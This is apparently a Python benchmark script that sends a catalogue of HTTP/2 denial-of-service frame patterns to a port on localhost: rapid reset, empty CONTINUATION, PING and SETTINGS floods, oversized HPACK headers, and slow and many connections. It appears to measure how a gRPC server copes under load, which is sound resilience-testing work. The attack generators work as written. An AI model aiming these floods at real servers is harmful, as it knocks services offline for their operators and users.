"""Strangers that disturb a port: ``python -m scripts.benchmarks.strangers ATTACK PORT`` goes on until it is ended."""

from __future__ import annotations

import contextlib
import os
import socket
import struct
import sys
import threading
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass

_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_DATA, _HEADERS, _PRIORITY, _RST_STREAM, _SETTINGS, _PING, _WINDOW_UPDATE, _CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
_BLOCK = b"\x83\x86\x04\x2f" + b"/communicator_objects.UnityToExternalProto/Exchang"  # POST, http, a path
_SIZE = 1 << 20
_LARGEST_FRAME = 2**24 - 1
_CONNECTIONS = 4
_BACK_AFTER_S = 0.01


@dataclass(frozen=True)
class Attack:
    """What each of some connections sends, again and again on a new one whenever it is cut off or at the end."""

    sent: Callable[[], bytes]
    bytes_per_s: float = 5e6
    connections: int = _CONNECTIONS
    piece: int = 1 << 14


def _frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def _repeated(frame: bytes, opening: bytes = b"") -> Callable[[], bytes]:
    return lambda: opening + frame * (_SIZE // len(frame))


def _calls(end: Callable[[int], bytes]) -> Callable[[], bytes]:
    """Calls one after the other, each ended by ``end`` of its stream."""

    def sent() -> bytes:
        streams = range(1, 40_000, 2)
        return b"".join(_frame(_HEADERS, 0x4, stream, b"\x83\x86\x84") + end(stream) for stream in streams)

    return sent


def _headers(content: bytes) -> Callable[[], bytes]:
    return lambda: _frame(_HEADERS, 0x4, 1, content * (_LARGEST_FRAME // len(content)))


_OPEN_CALL = _frame(_HEADERS, 0x4, 1, _BLOCK)
_OPEN_BLOCK = _frame(_HEADERS, 0, 1, b"\x83")
ATTACKS = {
    "nothing": Attack(lambda: b"", connections=1, bytes_per_s=100),
    "WINDOW_UPDATE of 0": Attack(_repeated(_frame(_WINDOW_UPDATE, 0, 0, bytes(4)))),
    "unknown frames": Attack(_repeated(_frame(0x77, 0, 0, b""))),
    "empty CONTINUATION": Attack(_repeated(_frame(_CONTINUATION, 0, 1, b""), _OPEN_BLOCK)),
    "rapid reset": Attack(_calls(lambda stream: _frame(_RST_STREAM, 0, stream, bytes(4)))),
    "PRIORITY": Attack(_repeated(_frame(_PRIORITY, 0, 1, bytes(5)))),
    "refused calls": Attack(_calls(lambda stream: _frame(_DATA, 0x1, stream, bytes(5)))),
    "empty DATA": Attack(_repeated(_frame(_DATA, 0, 1, b""), _OPEN_CALL)),
    "PING": Attack(_repeated(_frame(_PING, 0, 0, bytes(8)))),
    "SETTINGS": Attack(_repeated(_frame(_SETTINGS, 0, 0, b"\x00\x04\x00\x01\x00\x00"))),
    "16 MB of table sizes": Attack(_headers(b"\x20"), 50e6),
    "16 MB of zeros in HEADERS": Attack(_headers(b"\x00"), 50e6),
    "16 KB of Huffman": Attack(lambda: _frame(_HEADERS, 0x4, 1, b"\x00\x01a\xff\xe1\x3a" + b"\x1f" * 7_500)),
    "slow connections": Attack(lambda: _OPEN_CALL * 100, bytes_per_s=20, connections=64, piece=1),
    "many connections": Attack(lambda: b"", connections=64),
}


def _pieces(sent: bytes, size: int) -> Iterator[bytes]:
    return (sent[start : start + size] for start in range(0, len(sent), size))


def disturb(attack: Attack, port: int) -> None:
    sent = _PREFACE + attack.sent()
    pause_s = attack.piece / attack.bytes_per_s * attack.connections
    if attack.piece == 1:
        pause_s = 1 / attack.bytes_per_s
    while True:
        with contextlib.suppress(OSError), socket.create_connection(("127.0.0.1", port), 1.0) as connection:
            for piece in _pieces(sent, attack.piece):
                connection.sendall(piece)
                time.sleep(pause_s)
        time.sleep(_BACK_AFTER_S)


def main() -> None:
    attack, port = ATTACKS[sys.argv[1]], int(sys.argv[2])
    if hasattr(os, "nice"):
        os.nice(19)  # what is measured is what the port costs, not what they take from the processor themselves
    for _ in range(attack.connections):
        threading.Thread(target=disturb, args=(attack, port)).start()


if __name__ == "__main__":
    main()
